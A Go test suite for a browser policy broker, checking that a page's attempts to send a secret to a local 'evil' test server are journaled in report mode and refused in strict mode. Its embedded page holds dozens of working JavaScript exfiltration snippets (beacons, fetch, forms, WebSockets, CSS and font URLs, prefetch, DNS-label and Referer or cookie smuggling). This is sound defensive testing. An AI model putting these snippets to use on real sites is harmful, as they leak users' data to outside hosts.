package browser_test

// The exfiltration suite: a page on the run's own site (site A) tries to
// get a secret to another site (evil) in every way this file knows, in two
// host forms (evil on another port of 127.0.0.1; the page on localhost and
// evil on 127.0.0.1), in report mode and then in strict mode. evil counts,
// per technique, the requests that reach it carrying the secret. The
// journal must match: in report mode every request that arrived is
// recorded, once, as what strict mode would refuse; in strict mode nothing
// arrives and each of those requests is recorded as refused, once, by the
// time the action that set it off (or the next one) returns.

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/gatehouse/gatehouse/broker/journal"
	"github.com/gatehouse/gatehouse/browser"
	"github.com/gatehouse/gatehouse/policy"
)

// marker is in every secret the pages try to send; evil looks for it in
// the address, the headers and the body, in any case (a host name is lower
// case).
const marker = "secret"

// evilSite counts requests carrying the marker, by technique: the path
// segment after /t/.
type evilSite struct {
	mu   sync.Mutex
	hits map[string]int
	srv  *httptest.Server
}

func (e *evilSite) reset() { e.mu.Lock(); clear(e.hits); e.mu.Unlock() }

func (e *evilSite) count(name string) int { e.mu.Lock(); defer e.mu.Unlock(); return e.hits[name] }

func (e *evilSite) host() string { return strings.TrimPrefix(e.srv.URL, "http://") }

func (e *evilSite) port() string { u, _ := url.Parse(e.srv.URL); return u.Port() }

func newEvil() *evilSite {
	e := &evilSite{hits: map[string]int{}}
	e.srv = httptest.NewServer(http.HandlerFunc(e.serve))
	return e
}

func (e *evilSite) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	carried := strings.Contains(strings.ToLower(r.Host+" "+r.URL.String()+" "+string(body)), marker)
	for name, vs := range r.Header {
		for _, v := range vs {
			carried = carried || strings.Contains(strings.ToLower(name+v), marker)
		}
	}
	name, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/t/"), "/")
	if carried && (r.Method != http.MethodOptions || r.Header.Get("Access-Control-Request-Method") == "") {
		e.mu.Lock()
		e.hits[name]++
		e.mu.Unlock()
	}
	if o := r.Header.Get("Origin"); o != "" {
		w.Header().Set("Access-Control-Allow-Origin", o)
		w.Header().Set("Access-Control-Allow-Credentials", "true")
	}
	if r.Method == http.MethodOptions {
		w.Header().Set("Access-Control-Allow-Methods", "GET, POST, PUT, OPTIONS")
		w.Header().Set("Access-Control-Allow-Headers", r.Header.Get("Access-Control-Request-Headers"))
		w.WriteHeader(http.StatusNoContent)
		return
	}
	switch name {
	case "ws":
		webSocket(w, r)
	case "frag.html":
		// The attacker's page: what the address's fragment carried goes
		// back to its own site.
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<script>fetch('/t/frag-post', {method: 'POST', mode: 'no-cors', body: location.hash});</script>`)
	case "sse":
		w.Header().Set("Content-Type", "text/event-stream")
		w.(http.Flusher).Flush()
		<-r.Context().Done()
	default:
		fmt.Fprintln(w, "received")
	}
}

// exfilSite serves site A's pages for the suite; false for a path it does
// not know.
func exfilSite(w http.ResponseWriter, r *http.Request) bool {
	q := r.URL.Query()
	switch r.URL.Path {
	case "/exfil.html":
		fmt.Fprint(w, exfilPage)
	case "/exw.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `fetch(%q + '/t/' + %q + '?d=%s', {mode: 'no-cors'});`, q.Get("b"), q.Get("t"), secret)
	case "/selfrm.html":
		fmt.Fprintf(w, `<script>navigator.sendBeacon(%q + '/t/selfremove', '%s'); frameElement.remove();</script>`, q.Get("b"), secret)
	case "/leave.html":
		fmt.Fprintf(w, `<h1>leave</h1><script>addEventListener('pagehide', () => navigator.sendBeacon(%q + '/t/' + %q, '%s'));</script>`, q.Get("b"), q.Get("t"), secret)
	case "/meta.html":
		fmt.Fprintf(w, `<meta http-equiv="refresh" content="0;url=%s"><h1>meta</h1>`, html.EscapeString(q.Get("to")))
	case "/linkheader":
		w.Header().Set("Link", "<"+q.Get("to")+">; rel=preload; as=image")
		fmt.Fprint(w, "<h1>link</h1>")
	case "/r307":
		_, _ = io.Copy(io.Discard, r.Body)
		http.Redirect(w, r, q.Get("to"), http.StatusTemporaryRedirect)
	case "/redir":
		http.Redirect(w, r, q.Get("to"), http.StatusFound)
	default:
		return false
	}
	return true
}

// secret is 256 bytes carrying the marker.
var secret = "SeCrEt-" + strings.Repeat("x", 249)

// label is a host name label carrying the marker, longer than the default
// max_off_site_name_bytes.
var label = "secret-" + strings.Repeat("k", 33)

// exfilPage has one button per technique; B is evil's origin, from the
// page's own query.
var exfilPage = `<!doctype html><meta charset="utf-8"><h1>exfil</h1><div id="box" style="width:60px;height:60px"></div>
<script>
const B = new URLSearchParams(location.search).get('b');
const S = '` + secret + `', L = '` + label + `', P = new URL(B).port, E = encodeURIComponent;
const add = (tag, attrs) => { const el = document.createElement(tag); Object.assign(el, attrs); document.body.appendChild(el); return el; };
const form = (method, action) => { const f = add('form', {method, action}); const i = document.createElement('input'); i.name = 'd'; i.value = S; f.appendChild(i); f.submit(); };
const T = {
  img: () => { new Image().src = B + '/t/img?d=' + S; },
  fetch: () => fetch(B + '/t/fetch?d=' + S, {mode: 'no-cors'}),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', B + '/t/xhr?d=' + S); x.send(); },
  navigate: () => { location = B + '/t/navigate?d=' + S; },
  formget: () => form('get', B + '/t/formget'),
  iframe: () => add('iframe', {src: B + '/t/iframe?d=' + S}),
  popup: () => open(B + '/t/popup?d=' + S),
  meta: () => add('iframe', {src: '/meta.html?to=' + E(B + '/t/meta?d=' + S)}),
  css: () => { document.getElementById('box').style.backgroundImage = 'url(' + B + '/t/css?d=' + S + ')'; },
  font: () => { add('style', {textContent: '@font-face{font-family:x;src:url(' + B + '/t/font?d=' + S + ')} #box{font-family:x}'}); document.getElementById('box').textContent = 'a'; },
  prefetch: () => add('link', {rel: 'prefetch', href: B + '/t/prefetch?d=' + S}),
  preload: () => add('link', {rel: 'preload', as: 'image', href: B + '/t/preload?d=' + S}),
  linkheader: () => add('iframe', {src: '/linkheader?to=' + E(B + '/t/linkheader?d=' + S)}),
  spec: () => add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [B + '/t/spec?d=' + S]}]})}),
  sse: () => new EventSource(B + '/t/sse?d=' + S),
  script: () => add('script', {src: B + '/t/script?d=' + S}),
  worker: () => new Worker('/exw.js?t=worker&b=' + E(B)),
  shared: () => new SharedWorker('/exw.js?t=shared&b=' + E(B)),
  beacon: () => navigator.sendBeacon(B + '/t/beacon', S),
  post: () => fetch(B + '/t/post', {method: 'POST', mode: 'no-cors', body: S}),
  formpost: () => form('post', B + '/t/formpost'),
  ws: () => { const w = new WebSocket(B.replace('http', 'ws') + '/t/ws?d=' + S); w.onopen = () => w.send(S); },
  path: () => { new Image().src = B + '/t/path/' + S; },
  name: () => { new Image().src = 'http://' + L + '.localhost:' + P + '/t/name'; },
  header: () => fetch(B + '/t/header', {headers: {'X-Data': S}}),
  options: () => fetch(B + '/t/options?d=' + S, {method: 'OPTIONS'}),
  accept: () => fetch(B + '/t/accept', {mode: 'no-cors', headers: {Accept: S.slice(0, 100)}}),
  redirect307: () => navigator.sendBeacon('/r307?to=' + E(B + '/t/redirect307'), S),
  openredirect: () => { new Image().src = '/redir?to=' + E(B + '/t/openredirect?d=' + S); },
  frag: () => { location = B + '/t/frag.html#' + S; },
  popupfrag: () => open(B + '/t/frag.html#' + S),
  selfremove: () => { for (let i = 0; i < 20; i++) add('iframe', {src: '/selfrm.html?b=' + E(B)}); },
  dns: () => { add('link', {rel: 'dns-prefetch', href: '//' + L + '.localhost'}); add('link', {rel: 'preconnect', href: 'http://' + L + '.localhost:' + P}); },
  referer: () => { history.replaceState(null, '', '/exfil.html?b=' + E(B) + '&d=' + S); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = B + '/t/referer'; },
  cookie: () => { document.cookie = 'd=' + S + '; path=/'; new Image().src = B + '/t/cookie'; },
};
for (const k in T) add('button', {id: k, textContent: k, onclick: () => T[k]()});
</script>`

// How a technique's requests fare.
type fate int

const (
	// refused: decided as data leaving; report mode records what
	// arrives, strict mode refuses it all.
	refused fate = iota
	// stripped: a plain read strict mode sends without what the page
	// slipped into it (the Referer past the origin, cookies the site did
	// not set); nothing is decided. Report mode lets it through.
	stripped
	// nothing: no request leaves in any mode.
	nothing
)

type technique struct {
	name string
	fate fate
	// mayNotSend: Chromium may not make the request at all in this form
	// (speculation rules prefetch, a cookie only the port form shares);
	// report and strict must still agree.
	mayNotSend bool
	// steps run the technique: by default goto the page and click its
	// button.
	steps func(t *testing.T, f *hostForm)
	match func(d decided, f *hostForm) bool
}

// hostForm is where the page and evil are for one run of the suite.
type hostForm struct {
	name string
	page string // site A's origin
	env  *envT
	run  string
}

func (f *hostForm) pageURL(path string) string {
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	return f.page + path + sep + "b=" + url.QueryEscape(evil.srv.URL)
}

func (f *hostForm) click(name string) func(t *testing.T, f *hostForm) {
	return func(t *testing.T, f *hostForm) {
		do(t, f.env, f.run, browser.ActionGoto, map[string]any{"url": f.pageURL("/exfil.html")})
		do(t, f.env, f.run, browser.ActionClick, map[string]any{"selector": "#" + name})
	}
}

var evil *evilSite

func techniques() []technique {
	plain := func(names ...string) []technique {
		out := make([]technique, len(names))
		for i, n := range names {
			out[i] = technique{name: n}
		}
		return out
	}
	ts := plain("img", "fetch", "xhr", "navigate", "formget", "iframe", "popup", "meta", "css", "font", "prefetch",
		"preload", "linkheader", "sse", "script", "worker", "shared", "beacon", "post", "formpost", "header", "options", "accept",
		"redirect307", "openredirect", "frag", "popupfrag", "selfremove")
	ts = append(ts,
		technique{name: "spec", mayNotSend: true},
		technique{name: "ws", match: func(d decided, _ *hostForm) bool {
			return d.Action == policy.BrowserConnect && d.Host == evil.host()
		}},
		technique{name: "path", match: func(d decided, _ *hostForm) bool { return d.Host == evil.host() && d.Path == "/..." }},
		technique{name: "name", match: func(d decided, _ *hostForm) bool { return d.Host == "*.localhost:"+evil.port() }},
		technique{name: "pagehide", steps: func(t *testing.T, f *hostForm) {
			do(t, f.env, f.run, browser.ActionGoto, map[string]any{"url": f.pageURL("/leave.html?t=pagehide")})
			do(t, f.env, f.run, browser.ActionGoto, map[string]any{"url": f.pageURL("/exfil.html")})
		}},
		technique{name: "close", steps: func(t *testing.T, f *hostForm) {
			do(t, f.env, f.run, browser.ActionGoto, map[string]any{"url": f.pageURL("/leave.html?t=close")})
			do(t, f.env, f.run, browser.ActionClose, nil)
		}},
		technique{name: "dns", fate: nothing},
		technique{name: "referer", fate: stripped},
		// Last: the cookie it plants would ride every later request to
		// evil in the port form (cookies do not tell ports apart).
		technique{name: "cookie", fate: stripped, mayNotSend: true},
	)
	return ts
}

// TestExfiltration: every technique, both host forms, report then strict.
func TestExfiltration(t *testing.T) {
	evil = newEvil()
	defer evil.srv.Close()
	a := strings.TrimPrefix(siteA.URL, "http://127.0.0.1")
	for _, form := range []hostForm{
		{name: "ports", page: siteA.URL},
		{name: "localhost", page: "http://localhost" + a},
	} {
		t.Run(form.name, func(t *testing.T) {
			reported := map[string]int{}
			for _, mode := range []policy.Mode{policy.ModeReport, policy.ModeStrict} {
				t.Run(string(mode), func(t *testing.T) {
					f := form
					f.env = start(t, mode, "")
					f.run = openRun(t, f.env)
					seen := map[string]bool{} // decisions already counted
					for _, tq := range techniques() {
						evil.reset()
						steps := tq.steps
						if steps == nil {
							steps = f.click(tq.name)
						}
						steps(t, &f)
						// The barrier: whatever the technique set off is on
						// record once the next action returns (close is its
						// own).
						if tq.name != "close" {
							do(t, f.env, f.run, browser.ActionPages, nil)
						}
						counted := tq.name
						if tq.name == "frag" || tq.name == "popupfrag" {
							counted = "frag-post"
						}
						recorded := 0
						// more counts the technique's decisions not counted
						// yet; each is counted once, so a record made twice
						// shows as one too many.
						more := func() int {
							n := 0
							for _, d := range allDecisions(t, f.env, f.run) {
								if seen[d.Effect] || !tq.matches(d, &f) {
									continue
								}
								seen[d.Effect] = true
								if d.Refusal == "" {
									t.Errorf("%s: a decision without the refusal: %+v", tq.name, d.Decision)
									continue
								}
								if mode == policy.ModeStrict && (d.Outcome != journal.OutcomeRefused || !d.Enforced) {
									t.Errorf("%s: strict mode let it out: %+v", tq.name, d.Decision)
								}
								if d.PageHost != hostOf2(f.page) {
									t.Errorf("%s: page host %q, want %q", tq.name, d.PageHost, hostOf2(f.page))
								}
								n++
							}
							return n
						}
						recorded = more()
						// The barrier waits for a quiet page, at most
						// SettleMax: on a starved machine twenty frames can
						// still be loading when it gives up. Their records
						// then come later, and must still come exactly once.
						late := func(want func() int) {
							if recorded < want() {
								t.Logf("%s (%s): %d of %d on record when the next action returned; waiting for the rest", tq.name, mode, recorded, want())
								waitFor(t, tq.name+" on record", func() bool { recorded += more(); return recorded >= want() })
							}
						}
						if mode == policy.ModeReport && tq.fate == refused {
							// What was let out may still be on its way to
							// evil when its record is already made.
							waitFor(t, tq.name+" to arrive", func() bool { return evil.count(counted) >= recorded })
							late(func() int { return evil.count(counted) })
						}
						if mode == policy.ModeStrict && tq.fate == refused {
							late(func() int { return reported[tq.name] })
						}
						arrived := evil.count(counted)
						switch {
						case tq.fate == nothing:
							if arrived != 0 || recorded != 0 {
								t.Errorf("%s: %d arrived, %d recorded; want none", tq.name, arrived, recorded)
							}
						case tq.fate == stripped:
							if recorded != 0 || (mode == policy.ModeStrict && arrived != 0) {
								t.Errorf("%s (%s): %d arrived with the secret, %d recorded; want none", tq.name, mode, arrived, recorded)
							}
							if mode == policy.ModeReport && arrived == 0 && !(tq.mayNotSend && form.name == "localhost") {
								t.Errorf("%s: report mode: the channel carried nothing (the test proves nothing)", tq.name)
							}
						case mode == policy.ModeReport:
							reported[tq.name] = arrived
							if arrived != recorded || (arrived == 0 && !tq.mayNotSend) {
								t.Errorf("%s: report mode: %d arrived at the other site, %d recorded", tq.name, arrived, recorded)
							}
						default:
							if arrived != 0 || recorded != reported[tq.name] {
								t.Errorf("%s: strict mode: %d arrived at the other site, %d refusals recorded; report mode saw %d",
									tq.name, arrived, recorded, reported[tq.name])
							}
						}
					}
					f.env.Verify(t)
					f.env.NoContent(t, marker)
					f.env.NoContent(t, strings.ToLower(marker))
				})
			}
		})
	}
}

func (tq technique) matches(d decided, f *hostForm) bool {
	if tq.match != nil {
		return tq.match(d, f)
	}
	name := tq.name
	if name == "frag" || name == "popupfrag" {
		name = "frag-post"
	}
	return d.Host == evil.host() && (d.Path == "/t/"+name || strings.HasPrefix(d.Path, "/t/"+name+"/"))
}

func hostOf2(origin string) string { u, _ := url.Parse(origin); return u.Host }

// allDecisions returns every decision recorded for run.
func allDecisions(t *testing.T, env *envT, run string) []decided {
	t.Helper()
	var out []decided
	for _, a := range []string{browser.EffectSend, browser.EffectNavigate, policy.BrowserConnect} {
		out = append(out, decisions(t, env, run, a)...)
	}
	return out
}
